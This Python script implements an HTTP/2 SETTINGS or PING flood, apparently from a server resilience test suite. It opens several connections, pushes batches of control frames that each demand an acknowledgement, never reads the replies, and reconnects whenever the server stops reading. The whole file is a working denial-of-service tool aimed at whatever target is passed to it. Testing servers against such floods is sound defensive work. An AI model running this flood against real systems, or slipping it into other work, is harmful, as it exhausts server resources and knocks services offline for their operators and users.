"""SETTINGS or PING flood: control frames that each demand an acknowledgement, sent as fast as
possible, while the attacker never reads the acknowledgements.

When the server stops reading (its replies back up), the connection is closed with frames still
queued in the server's socket buffer, and a new one takes over: a server must not go on working
through frames for a peer that has gone.
"""
import struct
import time

import attack
import h2frames as f


def flood_frame(kind, serial):
    if kind == "ping":
        return f.ping(struct.pack(">Q", serial))
    # Alternating values, so each SETTINGS really changes something.
    return f.settings([(f.INITIAL_WINDOW_SIZE, 65535 + serial % 2), (f.MAX_FRAME_SIZE, 16384 + serial % 2)])


def main():
    p = attack.parser(__doc__, duration=3.0, connections=2, rate_help="frames per second per connection (0 = as fast as possible)")
    p.add_argument("--frame", choices=["settings", "ping"], required=True, help="which control frame floods")
    p.add_argument("--batch", type=int, default=2000, help="frames per write [2000]")
    p.add_argument("--max-frames", type=int, default=100_000_000, help="stop after this many frames in all")
    args = p.parse_args()
    report = attack.Report(f"{args.frame}-flood", args)
    burst = b"".join(flood_frame(args.frame, i) for i in range(args.batch))
    connections = [None] * args.connections
    started = time.monotonic()
    sent = 0
    while report.elapsed() < args.duration and sent < args.max_frames:
        for i, connection in enumerate(connections):
            if connection is None or not connection.usable:
                if connection is not None:
                    connection.close()
                    report.sent["connections closed with frames unread"] += 1
                connection = connections[i] = attack.connect(args.target, report)
                if connection is None or not connection.start():
                    time.sleep(0.05)
                    continue
            if connection.send(burst, timeout=0.2):
                sent += args.batch
        attack.pace(args.rate * args.connections, started, sent)
    report.sent[f"{args.frame.upper()} frames"] = sent
    for connection in connections:
        if connection is not None:
            connection.close()
    report.notes.append("no acknowledgement was read")
    report.finish()


if __name__ == "__main__":
    main()
